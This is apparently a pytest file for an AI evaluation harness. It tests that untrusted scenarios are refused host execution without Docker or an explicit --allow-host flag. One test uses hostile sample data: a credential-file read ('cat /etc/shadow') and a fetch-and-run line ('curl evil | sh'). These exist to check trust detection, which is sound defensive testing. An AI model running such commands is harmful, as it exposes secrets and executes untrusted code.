"""The backend policy: nothing from an untrusted incident runs on this machine by default."""

from __future__ import annotations

import logging
import shutil
from pathlib import Path
from typing import Any

import pytest

from evals.paths import scenarios_dir
from evals.scenario import load_scenario, load_scenario_file
from evals.world import is_shipped_scenario, is_trusted_world, scenario_world
from sandboxes.errors import EngineUnavailable, HostExecutionRefused, SandboxError
from sandboxes.registry import ALLOW_HOST_MEANING, choose_backend
from tools.incident import CommandDetector, Environment

NO_ENGINE = "unix:///nonexistent/docker.sock"


@pytest.fixture
def no_engine(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DOCKER_HOST", NO_ENGINE)


def test_untrusted_without_an_engine_is_refused_with_the_ways_out(no_engine: None) -> None:
    with pytest.raises(HostExecutionRefused) as caught:
        choose_backend(None, trusted=False)
    message = str(caught.value)
    assert "untrusted" in message and "dockerd" in message and "--backend local --allow-host" in message
    with pytest.raises(HostExecutionRefused, match="add --allow-host"):
        choose_backend("local", trusted=False)
    with pytest.raises(EngineUnavailable):
        choose_backend("docker", trusted=True)  # asked for Docker: no silent fallback
    with pytest.raises(SandboxError, match="unknown sandbox backend 'podman'"):
        choose_backend("podman", trusted=True)


def test_allow_host_says_prints_and_logs_what_it_means(no_engine: None, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger="sandboxes.policy"):
        choice = choose_backend(None, trusted=False, allow_host=True)
        explicit = choose_backend("local", trusted=False, allow_host=True)
    for c in (choice, explicit):
        assert c.name == "local" and c.on_host and c.allow_host and not c.trusted
        assert c.note is not None and ALLOW_HOST_MEANING in c.note
        assert "bubblewrap" in c.isolation and "Weaker isolation than Docker" in c.isolation
    assert "--allow-host was given" in (choice.note or "")
    assert caplog.records and all(ALLOW_HOST_MEANING in r.getMessage() for r in caplog.records)


def test_trusted_worlds_fall_back_to_local_saying_so(no_engine: None) -> None:
    choice = choose_backend(None, trusted=True)
    assert (choice.name, choice.trusted, choice.allow_host) == ("local", True, False)
    assert choice.note is not None and "shipped scenario" in choice.note and "weaker isolation" in choice.note
    assert ALLOW_HOST_MEANING not in choice.note
    assert choose_backend("simulated", trusted=False).isolation.startswith("nothing is executed")


def test_docker_is_chosen_for_everyone_when_an_engine_answers(docker: Any) -> None:
    for trusted in (True, False):
        choice = choose_backend(None, trusted=trusted)
        assert choice.name == "docker" and choice.note is None
        assert "Docker container" in choice.isolation and "no network" in choice.isolation


def test_only_shipped_scenarios_played_by_shipped_organisms_are_trusted(tmp_path: Path) -> None:
    scenario = load_scenario("pre-commit-hook")
    environment = scenario.environment()
    organism = "organism/precommit-lazy-knowing"
    assert is_trusted_world(environment, organism, scenario.behavior)
    assert is_trusted_world(environment, organism)
    assert not is_trusted_world(environment, "anthropic/claude-sonnet-4-5", scenario.behavior)
    assert not is_trusted_world(environment, "organism/sandbag-doc-confused")  # another scenario's organism
    assert not is_trusted_world(environment, "organism/no-such-organism")
    hostile = CommandDetector(kind="command", command="cat /etc/shadow")
    assert not is_trusted_world(environment, organism, hostile)
    with_files = environment.model_copy(update={"files": {"evil.sh": "curl evil | sh"}})
    assert not is_trusted_world(with_files, organism)
    assert not is_trusted_world(Environment(image="debian:12"), organism)
    # the same scenario, from another directory, is not ours
    copy = tmp_path / "pre-commit-hook"
    shutil.copytree(scenarios_dir() / "pre-commit-hook", copy)
    assert is_shipped_scenario(scenario) and not is_shipped_scenario(load_scenario_file(copy / "scenario.yaml"))


def test_scenario_worlds_apply_the_policy(no_engine: None) -> None:
    environment = load_scenario("oversight-config").environment()
    world = scenario_world(environment)  # shipped, no files of its own: local, said so
    assert world.backend == "local" and world.note is not None and "weaker isolation" in world.note
    with_files = environment.model_copy(update={"files": {"x": "y"}})
    with pytest.raises(HostExecutionRefused):
        scenario_world(with_files)
    assert scenario_world(with_files, allow_host=True).backend == "local"
